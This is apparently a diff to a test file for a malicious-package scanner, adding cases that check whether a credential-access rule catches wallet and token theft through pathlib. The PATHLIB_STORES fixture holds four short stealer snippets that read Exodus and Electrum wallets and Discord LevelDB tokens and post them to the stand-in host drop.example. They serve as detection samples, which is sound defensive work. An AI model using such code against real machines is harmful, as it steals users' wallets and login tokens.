@@ -144,3 +144,73 @@ def test_formatted_and_packet_destinations_without_a_fixed_host_or_host_data_sta
     source: str,
 ) -> None:
     assert "CPL-THR-017" not in danger(source)
+
+
+#: mend19: a wallet or token store reached through pathlib: pieces joined by ``/`` and a
+#: ``glob``/``rglob`` pattern under them (the indicators saw each piece alone), and a
+#: recursive search for LevelDB tables (Discord tokens, browser-extension wallets).
+PATHLIB_STORES = [
+    """
+    import os, requests
+    from pathlib import Path
+    def grab():
+        root = Path(os.environ["APPDATA"]) / "Exodus" / "exodus.wallet"
+        for p in root.iterdir():
+            requests.post("https://drop.example/u", data=p.read_bytes())
+    """,
+    """
+    import requests
+    from pathlib import Path
+    def grab():
+        base = Path.home() / ".config" / "discord" / "Local Storage" / "leveldb"
+        for f in base.glob("*.ldb"):
+            requests.post("https://drop.example/u", data=f.read_bytes())
+    """,
+    """
+    import requests
+    from pathlib import Path
+    def grab():
+        for f in Path.home().rglob("*.ldb"):
+            requests.post("https://drop.example/u", data=f.read_bytes())
+    """,
+    """
+    import requests
+    from pathlib import Path
+    def grab():
+        for f in (Path.home() / "AppData").glob("**/Electrum/wallets/*"):
+            requests.post("https://drop.example/u", data=f.read_bytes())
+    """,
+]
+
+
+@pytest.mark.parametrize("source", PATHLIB_STORES)
+def test_a_wallet_or_token_store_reached_through_pathlib_is_credential_access(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
+) -> None:
+    assert "CPL-THR-005" in danger(source)
+    found_in_a_package(tmp_path, monkeypatch, textwrap.dedent(source), "CPL-THR-005")
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # a package's own data under pathlib, globbed, and a LevelDB store of its own
+        """
+        import requests
+        from pathlib import Path
+        HERE = Path(__file__).parent
+        for f in (HERE / "data" / "fixtures").glob("*.json"):
+            requests.post("https://api.example/upload", data=f.read_bytes())
+        for table in (HERE / "cache" / "index").glob("*.ldb"):
+            table.unlink()
+        """,
+        # a recursive search for the project's own files
+        """
+        from pathlib import Path
+        sources = sorted(Path.cwd().rglob("*.py"))
+        logs = list((Path.home() / ".myapp" / "logs").rglob("*.log"))
+        """,
+    ],
+)
+def test_pathlib_paths_of_a_packages_own_stay_clean(source: str) -> None:
+    assert "CPL-THR-005" not in danger(source)
